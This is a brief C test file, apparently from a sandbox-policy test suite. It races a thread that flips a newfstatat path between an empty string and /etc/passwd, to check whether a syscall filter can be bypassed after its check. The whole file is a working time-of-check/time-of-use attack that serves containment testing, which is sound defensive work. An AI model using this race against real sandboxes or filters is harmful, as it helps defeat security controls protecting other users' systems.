/*
 * claim: swaps the path of newfstatat(0, path, AT_EMPTY_PATH) from "" to /etc/passwd after the check
 * class: files
 * bare: 1
 * compute: ok | policy-violation newfstatat
 * see: pitfalls 48, 85
 */
#include "attack.h"

static volatile int done;
static volatile char path[] = "/etc/passwd";

static void *flip(void *arg)
{
	(void)arg;
	while (!done) {
		path[0] = '/';
		path[0] = 0;
	}
	return 0;
}

int main(void)
{
	struct stat own, st;
	double end = now() + 1.5;

	if (fstat(0, &own) != 0)
		refused("fstat");
	thread(flip, 0);
	while (now() < end) {
		if (syscall(SYS_newfstatat, 0, path, &st, AT_EMPTY_PATH) != 0)
			continue;
		if (st.st_ino != own.st_ino || st.st_dev != own.st_dev)
			escaped("saw the inode of a file that is not stdin");
	}
	contained("saw nothing but stdin");
}
